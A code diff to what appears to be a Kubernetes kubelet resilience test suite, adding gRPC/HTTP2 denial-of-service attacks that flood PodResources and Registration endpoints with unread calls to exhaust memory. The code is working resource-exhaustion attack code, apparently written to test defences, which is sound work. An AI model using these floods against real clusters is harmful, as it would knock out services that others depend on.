@@ -1,20 +1,22 @@
 """Attack with gRPC connections: half-open ones, resets, too many connections, too many calls.
 
-The last three attacks are clients of PodResources that send requests and do not read responses. Of
-the kubelet's services, only PodResources has large responses without a hostile plugin.
+The last attacks are clients that send requests and do not read responses. Of the kubelet's
+services, only PodResources has large responses without a hostile plugin.
 """
 
 from __future__ import annotations
 
 import contextlib
+import select
 import time
 from concurrent.futures import ThreadPoolExecutor
 from functools import partial
 from pathlib import Path
 
+import attrs
 import grpc
 
-from podresources.backlog import PATIENCE
+from podresources.accepted import PATIENCE
 from protos import deviceplugin_v1beta1 as dp
 from protos import deviceplugin_v1beta1_grpc as dp_grpc
 from tools.attack import http2
@@ -71,7 +73,7 @@ def _cancelled_calls(path: Path, method: str) -> None:
             connection.sendall(b"".join(calls))
 
 
-@beside("metadata-flood", "2,000 calls with 1 MB of metadata")
+@beside("metadata-flood", "1,000 calls with 1 MB of metadata")
 def _metadata(target: Target) -> None:
     # The server closes each connection because of the metadata, so every call opens a new one.
     metadata = tuple((f"key-{number}", "x" * 1000) for number in range(1000))
@@ -82,7 +84,7 @@ def _metadata(target: Target) -> None:
             dp_grpc.RegistrationStub(connection).Register(request, timeout=5, metadata=metadata)
 
     with ThreadPoolExecutor(4) as pool:
-        list(pool.map(one, range(2000)))
+        list(pool.map(one, range(1000)))
 
 
 @beside(
@@ -183,3 +185,54 @@ beside(
     settings={"pod_resources_qps": None},
     **_LARGE_RESPONSES,
 )(partial(_unread, window=http2.settings(window=http2.MOST_WINDOW)))
+
+
+_ROUNDS, _OPENED = 10, 30
+
+
+@beside(
+    "list-unread-forever",
+    f"{_ROUNDS * _OPENED} clients x 2 calls for 1.1 MB, with the widest window",
+    attrs.evolve(_UNREAD_LIMITS, descriptors=_ROUNDS * _OPENED + 100),
+    settings={"pod_resources_qps": None},
+    **_LARGE_RESPONSES,
+)
+def _unread_forever(target: Target) -> None:
+    one = http2.PREFACE + http2.widest_window() + http2.call(1, _METHODS[0])
+    two = one + http2.call(3, _METHODS[0])
+    with contextlib.ExitStack() as stack:
+        for _ in range(_ROUNDS):
+            stack.enter_context(http2.connections(target.pod_resources, _OPENED, two))
+            with http2.connect(target.pod_resources, one) as connection:
+                connection.settimeout(None)
+                http2.wait_for_end(connection)
+            # Then the kubelet cancels these calls when it needs the room. gRPC still stores the
+            # responses of cancelled calls, until their clients are disconnected.
+            time.sleep(2 * PATIENCE)
+
+
+_ENDLESS, _SECONDS = 20_000, 20
+
+
+@beside(
+    "register-unread",
+    f"{_READERS} clients that call Register as fast as they can, and do not read",
+    _UNREAD_LIMITS,
+)
+def _register_unread(target: Target) -> None:
+    streams = range(1, 2 * _ENDLESS, 2)
+    calls = b"".join(http2.call(stream, _REGISTER, _BAD_VERSION) for stream in streams)
+    view, first = memoryview(calls), http2.PREFACE + http2.widest_window()
+    with http2.connections(target.registration, _READERS, first) as connections:
+        sent = dict.fromkeys(connections, 0)
+        end = time.monotonic() + _SECONDS
+        # The kubelet disconnects all clients. If it does not, this is enough to fill the memory.
+        while sent and time.monotonic() < end:
+            select.select((), sent, (), 1.0)
+            for connection in list(sent):
+                connection.setblocking(False)
+                with contextlib.suppress(BlockingIOError):
+                    try:
+                        sent[connection] += connection.send(view[sent[connection] :][: 1 << 16])
+                    except (BrokenPipeError, ConnectionResetError):
+                        del sent[connection]
